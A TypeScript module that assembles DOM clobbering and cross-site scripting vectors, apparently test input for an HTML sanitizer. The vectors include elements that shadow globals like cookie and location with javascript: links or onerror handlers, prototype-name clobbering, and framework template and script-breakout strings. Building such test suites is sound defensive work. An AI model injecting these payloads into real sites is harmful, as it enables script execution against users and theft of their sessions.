import { insertRoundRobin, combineEach, type Vector } from "../fragment.ts";

/** Global names that the page's own scripts or its libraries read. */
const names = [
  "__next_f __NEXT_DATA__ __next _N_E __next_require__ next TURBOPACK webpackChunk_N_E",
  "currentScript body head documentElement defaultView cookie location forms",
  "getElementById querySelector createElement addEventListener implementation scripts",
  "localStorage fetch JSON Promise parent top self name opener event main end end-title",
  "step-1 guides rating __ran process globalThis",
].flatMap((line) => line.split(" "));

const bearers = [
  `<a id="@" href="javascript:RUN">x</a>`,
  `<a id="@"></a><a id="@" name=src href="javascript:RUN">x</a>`,
  `<form id="@" name="@" action="javascript:RUN"><input name=nodeName><input name=attributes><button>x</button></form>`,
  `<img id="@" name="@" src=x: onerror=RUN>`,
  `<iframe name="@" srcdoc="<script>RUN</script>"></iframe>`,
  `<object id="@" data="data:text/html,<script>RUN</script>"></object>`,
];

/** For each global name, one element that replaces its value. */
const taken = insertRoundRobin(bearers, names);

const inherited = combineEach(
  [`<p @=RUN onclick=RUN>x</p>`, `<img @="x" src=x: onerror=RUN>`],
  [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "__defineGetter__",
  ],
);

const tags = combineEach(
  [`<@ onclick=RUN>x</@>`],
  ["constructor", "prototype-x", "hasOwnProperty", "toString", "valueOf"],
);

/** Text that frameworks, but not browsers, interpret as code. */
const directives: Vector[] = [
  `<p dangerouslySetInnerHTML='{"__html":"<img src=x: onerror=RUN>"}'>x</p>`,
  `<p onClick={RUN}>x</p>`,
  `<p v-html="RUN" @click="RUN" x-on:click="RUN" ng-click="RUN">x</p>`,
  `<p>{{constructor.constructor("RUN")()}}</p>`,
  `<p>\${RUN}</p>`,
  `<p>#{RUN} <%= RUN %> [[RUN]]</p>`,
  `<p data-bind="html: RUN" hx-on:click="RUN" onclick=RUN>x</p>`,
  `<p is=x-y slot=x part=z exportparts=q itemscope itemtype=x onclick=RUN>x</p>`,
  `<div id=root data-reactroot data-dgst="RUN"><img src=x: onerror=RUN></div>`,
  `<!--$?--><template id="B:0"></template><!--/$--><div hidden id="S:0"><img src=x: onerror=RUN></div>`,
  `<template id="P:1"></template><script>RUN</script>`,
  `<script type=application/ld+json>{"x":"</script><script>RUN</script>"}</script>`,
  `<script id=__NEXT_DATA__ type=application/json>{"x":1}</script><script>RUN</script>`,
];

export const clobbering: Vector[] = [...taken, ...inherited, ...tags, ...directives];
